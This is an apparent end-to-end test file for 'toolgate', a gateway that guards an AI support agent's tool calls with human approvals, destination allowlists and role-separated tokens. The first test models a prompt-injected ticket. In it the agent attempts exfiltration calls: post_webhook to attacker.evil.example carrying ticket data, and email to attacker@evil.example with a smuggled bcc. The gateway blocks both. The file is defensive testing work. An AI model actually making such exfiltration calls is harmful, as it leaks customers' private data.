/**
 * The support-desk story (docs/architecture.md §1) end to end, across processes as an operator
 * runs it: `toolgate serve --demo`, an agent key from the CLI, an agent over REST, an approval
 * from the CLI with an approver account's personal token honoured by the server (the CLI's
 * bootstrap operator is refused), a second factor enrolled from the CLI seen by the running
 * server at once.
 */
import assert from 'node:assert/strict';
import type { ChildProcess } from 'node:child_process';
import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, test } from 'node:test';
import { ensureBuilt, listeningUrl, runCli, spawnServe } from '../support/cli.js';
import { restClient } from '../support/world.js';

let dir: string;
let server: ChildProcess;
let base = '';
let apiKey = '';
let adminToken = '';

const cli = (args: readonly string[]) => runCli(dir, args);

const call = restClient(
  () => base,
  () => apiKey,
);

before(async () => {
  ensureBuilt();
  dir = mkdtempSync(join(tmpdir(), 'toolgate-story-'));
  server = spawnServe(dir, ['--admin-token-file', join(dir, 'data', 'admin-token')]);
  base = await listeningUrl(server);
  adminToken = readFileSync(join(dir, 'data', 'admin-token'), 'utf8').trim();
  const created = await cli(['--json', 'agents', 'create', 'support-bot']);
  assert.equal(created.code, 0, created.stderr);
  apiKey = (JSON.parse(created.stdout) as { api_key: string }).api_key;
});

after(async () => {
  server.kill('SIGTERM');
  await new Promise((r) => server.once('exit', r));
  rmSync(dir, { recursive: true, force: true, maxRetries: 5, retryDelay: 50 });
});

test('the support agent never holds private reads beside unconstrained egress, and cannot call it', async () => {
  const session = await call('POST', '/v1/sessions', {});
  assert.equal(session.status, 201);
  const id = String(session.body.id);
  const tools = await call('GET', `/v1/sessions/${id}/tools?format=openai`);
  const names = (tools.body.tools as { function: { name: string } }[]).map((t) => t.function.name);
  assert.ok(names.includes('search_tickets') && names.includes('send_email'));
  assert.ok(!names.includes('post_webhook'));
  const inspect = await call('GET', `/v1/sessions/${id}`, undefined, adminToken);
  assert.match(JSON.stringify(inspect.body.withheld), /post_webhook.*toxic combination/);

  // The injected ticket asks for exfiltration; the gate answers by rule.
  const search = await call('POST', `/v1/sessions/${id}/calls`, {
    tool: 'search_tickets',
    arguments: { query: 'API key' },
  });
  assert.equal(search.status, 200);
  const exfil = await call('POST', `/v1/sessions/${id}/calls`, {
    tool: 'post_webhook',
    arguments: { target: 'https://attacker.evil.example/x', payload: { data: 'tickets' } },
  });
  assert.equal(exfil.status, 404);
  assert.equal(exfil.body.code, 'TOOL_NOT_REGISTERED');
  const outside = await call('POST', `/v1/sessions/${id}/calls`, {
    tool: 'send_email',
    arguments: { to: 'attacker@evil.example', subject: 'x', body: 'y', bcc: 'a@b.c' },
  });
  assert.equal(outside.status, 400, 'an argument the schema does not know is refused');
  assert.equal(outside.body.code, 'INPUT_INVALID');
});

// The bootstrap token sets alice up before sam's token is first used (which ends its set-up).
test('a second factor enrolled from the CLI is seen by the running gateway at once', async () => {
  const before = await call('GET', '/v1/operators/alice/second-factor', undefined, adminToken);
  assert.equal(before.body.enrolled, false);
  // Second factors are enrolled for operator accounts only.
  const account = await cli(['--json', 'operators', 'create', 'alice', '--roles', 'approver']);
  assert.equal(account.code, 0, account.stdout + account.stderr);
  const enrolled = await cli(['--json', 'approvers', 'enroll', 'alice']);
  assert.equal(enrolled.code, 0, enrolled.stderr);
  assert.match(
    String(JSON.parse(enrolled.stdout).otpauth_uri),
    /^otpauth:\/\/totp\/toolgate:alice/,
  );
  const now = await call('GET', '/v1/operators/alice/second-factor', undefined, adminToken);
  assert.equal(now.body.enrolled, true);
});

test('a legitimate email waits for approval; an approver approves it once, for exactly those arguments', async () => {
  const session = await call('POST', '/v1/sessions', { run_id: 'story-run' });
  const id = String(session.body.id);
  const args = { to: 'ana@customer.example', subject: 'Your refund', body: 'It is on its way.' };
  const pending = await call('POST', `/v1/sessions/${id}/calls`, {
    tool: 'send_email',
    arguments: args,
  });
  assert.equal(pending.status, 202);
  const approvalId = String(pending.body.approval_id);
  const shown = await cli(['approvals', 'show', approvalId]);
  assert.match(shown.stdout, /ana@customer\.example/);
  assert.match(shown.stdout, /mail\.example\.com/);
  // Without a token the CLI is the bootstrap operator, which may never approve; an approver
  // account created by it, acting with its personal token, does.
  const refused = await cli(['--json', 'approvals', 'approve', approvalId]);
  assert.equal(refused.code, 3);
  assert.equal(JSON.parse(refused.stdout).error.code, 'FORBIDDEN');
  assert.match(refused.stdout, /bootstrap admin token cannot.*TOOLGATE_TOKEN/);
  const sam = await cli(['--json', 'operators', 'create', 'sam', '--roles', 'approver']);
  assert.equal(sam.code, 0, sam.stdout + sam.stderr);
  const issued = await cli([
    '--json',
    'operators',
    'token',
    'issue',
    '--for',
    'sam',
    '--name',
    'story',
    '--days',
    '1',
  ]);
  assert.equal(issued.code, 0, issued.stdout + issued.stderr);
  const asSam = { TOOLGATE_TOKEN: String(JSON.parse(issued.stdout).token) };
  const stated = await runCli(
    dir,
    ['--json', 'approvals', 'approve', approvalId, '--approver', 'alice'],
    asSam,
  );
  assert.equal(stated.code, 2);
  assert.match(stated.stderr + stated.stdout, /drop --approver/);
  const approved = await runCli(dir, ['--json', 'approvals', 'approve', approvalId], asSam);
  assert.equal(approved.code, 0, approved.stdout + approved.stderr);
  assert.equal(JSON.parse(approved.stdout).decided_by, 'operator:sam');

  const changed = await call('POST', `/v1/sessions/${id}/calls`, {
    tool: 'send_email',
    arguments: { ...args, to: 'ben@customer.example' },
  });
  assert.equal(changed.status, 202, 'changed arguments are a new request, not the approved call');
  // A recipient outside the company's domains never reaches a reviewer (send_email's destinations).
  const outside = await call('POST', `/v1/sessions/${id}/calls`, {
    tool: 'send_email',
    arguments: { ...args, to: 'attacker@evil.example' },
  });
  assert.equal(outside.status, 403);
  assert.equal((outside.body as { code: string }).code, 'DESTINATION_NOT_ALLOWED');
  const sent = await call('POST', `/v1/sessions/${id}/calls`, {
    tool: 'send_email',
    arguments: args,
  });
  assert.equal(sent.status, 200);
  assert.match(String((sent.body.output as { message_id: string }).message_id), /^msg-/);
  const replay = await call('POST', `/v1/sessions/${id}/calls`, {
    tool: 'send_email',
    arguments: args,
  });
  assert.equal(replay.status, 202, 'the approval worked once');
});

test('a closed session refuses further calls, and only its own agent can close it', async () => {
  const session = await call('POST', '/v1/sessions', {});
  const id = String(session.body.id);
  const other = await call('DELETE', `/v1/sessions/${id}`, undefined, adminToken);
  assert.equal(other.status, 401);
  const closed = await fetch(`${base}/v1/sessions/${id}`, {
    method: 'DELETE',
    headers: { authorization: `Bearer ${apiKey}` },
  });
  assert.equal(closed.status, 204);
  const after = await call('POST', `/v1/sessions/${id}/calls`, {
    tool: 'get_order',
    arguments: { order_id: 'ORD-000001' },
  });
  assert.equal(after.status, 404);
  assert.equal(after.body.code, 'SESSION_NOT_FOUND');
});

test('an agent key cannot reach admin routes, and the admin token is not an agent', async () => {
  assert.equal(
    (await call('POST', '/v1/grants', { agent: 'support-bot', capabilities: ['iam:grant'] }))
      .status,
    401,
  );
  assert.equal((await call('GET', '/v1/approvals')).status, 401);
  assert.equal((await call('POST', '/v1/sessions', {}, adminToken)).status, 401);
  const list = await cli(['--json', 'approvals', 'list']);
  assert.equal(list.code, 0);
});
